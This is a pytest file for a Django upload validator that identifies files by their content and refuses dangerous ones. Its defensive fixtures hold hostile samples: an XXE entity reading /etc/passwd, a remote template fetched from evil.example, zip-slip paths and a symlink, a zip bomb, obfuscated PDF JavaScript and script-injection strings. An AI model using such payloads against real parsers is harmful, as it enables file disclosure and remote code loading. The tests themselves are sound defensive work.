"""Files are told by what they hold, never by what they are called; what is dangerous is refused with a sentence."""

import io
import struct
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.forms import ValidationError

from goldenthread.kit.errors import Refused
from goldenthread.kit.received.fields import refuse_unless_clean
from goldenthread.kit.received.files import LARGEST, WORD, accepted, accepted_media, inside
from tests.kit.received import documents

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SOUND = documents.word("Ash needs help with reading.")


def archive(**parts):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as made:
        for name, words in parts.items():
            made.writestr(name.replace("__", "/").replace("_xml", ".xml"), words)
    return kept.getvalue()


def png(wide, high):
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", wide, high) + b"\x08\2\0\0\0"


def jpeg(wide, high):
    """With two segments, and a filling byte, before the one that says its size."""
    size = b"\xff\xc2\0\x11\x08" + struct.pack(">HH", high, wide) + bytes(10)
    return b"\xff\xd8\xff\xe0\0\x04ab\xff\xff\xdb\0\x03c" + size + b"\xff\xda\0\x02"


def _link():
    kept = io.BytesIO(SOUND)
    with zipfile.ZipFile(kept, "a") as made:
        entry = zipfile.ZipInfo("word/media/a.png")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        made.writestr(entry, b"/etc/passwd")
    return kept.getvalue()


LINK = _link()


@pytest.mark.parametrize(("name", "content", "mime"), [
    ("large.png", png(12_000, 9_000), "image/png"), ("large.jpg", jpeg(12_000, 9_000), "image/jpeg"),
    ("cut.png", png(1, 1)[:18], "image/png"), ("cut.jpg", jpeg(65_535, 65_535)[:20], "image/jpeg"),
    ("odd.jpg", b"\xff\xd8\xff\xc2\0\0" + bytes(20), "image/jpeg"),
    ("a.pdf", documents.blank(), "application/pdf"), ("photo.exe", b"\x89PNG\r\n\x1a\n...", "image/png"),
    ("a.jpg", b"\xff\xd8\xff\xe0", "image/jpeg"), ("a.heic", b"\0\0\0\x18ftypheic....", "image/heic"),
    ("a.txt", "Dear Zoë\n".encode(), "text/plain"), ("a.docx", SOUND, WORD),
    ("a.docx", documents.with_part(SOUND, "word/embeddings/sheet.xlsx", b"PK\x03\x04 a chart"), WORD),
])  # fmt: skip
def test_accepted_takes_what_people_send(name, content, mime):
    assert accepted(name, content).mime == mime


@pytest.mark.parametrize(("name", "content"), [
    ("a.docm", SOUND), ("a.zip", SOUND), ("a.txt", b"\x00\x01"), ("a.docx", b"PK\x03\x04 other"), ("a.html", b"\x07"),
])  # fmt: skip
def test_accepted_refuses_other_kinds(name, content):
    with pytest.raises(Refused, match="of a kind that we cannot open"):
        accepted(name, content)


@pytest.mark.parametrize(("name", "content", "words"), [
    ("a.txt", EICAR, "holds a virus"),
    ("a.pdf", documents.blank() + EICAR, "holds a virus"),
    ("a.docx", documents.with_part(SOUND, "word/media/a.png", EICAR), "holds a virus"),
    ("a.pdf", b"MZ\x90\0 program", "is a program"),
    ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old", "old or locked Office file"),
    ("a.rtf", b"{\\rtf1 words}", "old or locked Office file"),
    ("a.docx", documents.with_part(SOUND, "word/vbaProject.bin", b"macro"), "holds macros"),
    ("a.docx", documents.with_part(SOUND, "[Content_Types].xml", b'<a ContentType="x.macroEnabled.main+xml"/>'), "holds macros"),
    ("a.docx", documents.with_part(SOUND, "word/big.xml", b" " * 70_000_000), "unpacks to far more"),
    ("a.docx", documents.with_part(SOUND, "word/document.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
     "instructions to read other files"),
    ("a.docx", documents.with_part(SOUND, "word/document.xml", '<!DOCTYPE a [<!ENTITY b "b">]><a/>'.encode("utf-16")),
     "instructions to read other files"),
    ("a.docx", documents.with_part(SOUND, "word/_rels/settings.xml.rels",
     b'<r Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'),
     "fetches parts of itself"),
    ("a.docx", documents.with_part(SOUND, "word/embeddings/oleObject1.bin", b"MZ"), "another file inside it"),
    ("a.docx", SOUND[:-300] + b"word/", "is damaged"),
    ("a.pdf", documents.pdf_that("runs"), "holds a program"),
    ("a.pdf", documents.pdf_that("carries"), "other files inside it"),
    ("a.pdf", documents.pdf_that("is locked"), "locked with a password"),
    ("a.pdf", b"%PDF-1.7 and nothing more", "is damaged"),
    ("a.pdf", documents.blank(301), "has 301 pages"),
    ("a.docx", documents.with_part(SOUND, "../../../tmp/a", b"x"), "outside of its own folder"),
    ("a.docx", documents.with_part(SOUND, "/etc/a", b"x"), "outside of its own folder"),
    ("a.docx", documents.with_part(SOUND, "word\\..\\..\\a", b"x"), "outside of its own folder"),
    ("a.docx", LINK, "outside of its own folder"),
    ("a.png", png(65_535, 65_535), "more pixels than any photograph"),
    ("a.jpg", jpeg(65_535, 65_535), "more pixels than any photograph"),
])  # fmt: skip
def test_accepted_refuses_what_is_dangerous_and_says_why(name, content, words):
    with pytest.raises(Refused, match=words) as refused:
        accepted(name, content)
    assert refused.value.sentence.startswith("“")
    assert refused.value.sentence.endswith(".")


def test_a_javascript_that_hides_behind_an_escaped_name_is_found():
    hidden = documents.pdf_that("runs").replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/#4A#53")
    with pytest.raises(Refused, match="holds a program"):
        accepted("a.pdf", hidden)


def test_a_bomb_is_refused_without_being_unpacked():
    swollen = archive(word__document_xml=b"<a/>", word__zeros=b"\0" * 200_000_000)
    assert len(swollen) < 300_000
    with pytest.raises(Refused, match="unpacks to far more"):
        accepted("a.docx", swollen)


def test_accepted_refuses_empty_and_too_large():
    with pytest.raises(Refused, match="is empty"):
        accepted("a.pdf", b"")
    with pytest.raises(Refused, match="larger than 10 MB"):
        accepted("a.pdf", b"%PDF-" + b"x" * LARGEST)


@pytest.mark.parametrize("name", ["../../etc/report.txt", "C:\\Users\\me\\report.txt", "/report.txt"])
def test_accepted_keeps_the_name_and_no_folder(name):
    assert accepted(name, b"Hello").name == "report.txt"


def test_inside_gives_the_paragraphs_of_a_word_document_with_headings_and_tables():
    content = documents.word("Needs", "Ash needs help.", headings=("Needs",), table=("Often", "daily"))
    assert inside(accepted("a.docx", content)).paragraphs == [
        ("Needs", True),
        ("Ash needs help.", False),
        ("Often: daily", False),
    ]


def test_inside_leaves_out_what_was_struck_and_knows_it_as_hidden():
    body = (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>Ash reads"
        b"</w:t></w:r><w:del><w:r><w:delText> Bo Other</w:delText></w:r></w:del></w:p></w:body>"
        b"</w:document>"
    )
    read = inside(accepted("a.docx", documents.with_part(SOUND, "word/document.xml", body)))
    assert read.paragraphs == [("Ash reads", False)]
    assert "Bo Other" in read.hidden


def test_inside_gives_the_paragraphs_of_a_pdf():
    first = "Ash finds it hard to follow spoken instructions of more than two parts in a class of thirty, and then asks."
    read = inside(accepted("a.pdf", documents.pdf(first, "Ash needs a calm place to work.")))
    words = [words for words, _ in read.paragraphs]
    assert first in words
    assert "Ash needs a calm place to work." in words
    assert not read.is_scan


def test_inside_says_that_a_scan_has_no_words():
    read = inside(accepted("a.pdf", documents.blank(3)))
    assert read.is_scan
    assert (read.pages, read.paragraphs) == (3, [])


def test_inside_parts_plain_text_at_empty_lines():
    assert [one for one, _ in inside(accepted("a.txt", b"One\r\nline\r\n\r\nTwo")).paragraphs] == [
        "One line",
        "Two",
    ]


@pytest.mark.parametrize(("name", "content", "kept"), [
    ("holiday.bat", b"@echo off", "holiday.bat.txt"), ("me.svg", b"<svg onload='alert(1)'/>", "me.svg.txt"),
    ("report.pdf", b"<!DOCTYPE html><script>alert(1)</script>", "report.pdf.txt"),
    ("photo.exe", b"\x89PNG\r\n\x1a\n...", "photo.exe.png"),
    ("a.JPG", b"\xff\xd8\xff\xe0", "a.JPG"), ("notes.txt", b"Hello", "notes.txt"), ("letter", documents.blank(), "letter.pdf"),
    ("x" * 300 + ".js", b"alert(1)", "x" * 137 + ".js.txt"),
])  # fmt: skip
def test_a_file_is_called_what_it_is(name, content, kept):
    assert accepted(name, content).name == kept


def test_a_picture_of_a_plan_has_no_more_pixels_than_a_photograph():
    with pytest.raises(Refused, match="more pixels"):
        accepted_media("a.png", png(65_535, 65_535))


def test_a_list_with_the_signature_that_every_scanner_knows_is_refused_without_a_scanner_too(settings):
    settings.CLAMD_URL = ""
    with pytest.raises(ValidationError, match="holds a virus"):
        refuse_unless_clean(SimpleUploadedFile("list.csv", b"Name\n" + EICAR))
    sound = SimpleUploadedFile("list.csv", b"Name\nAnn")
    refuse_unless_clean(sound)
    assert sound.read() == b"Name\nAnn"
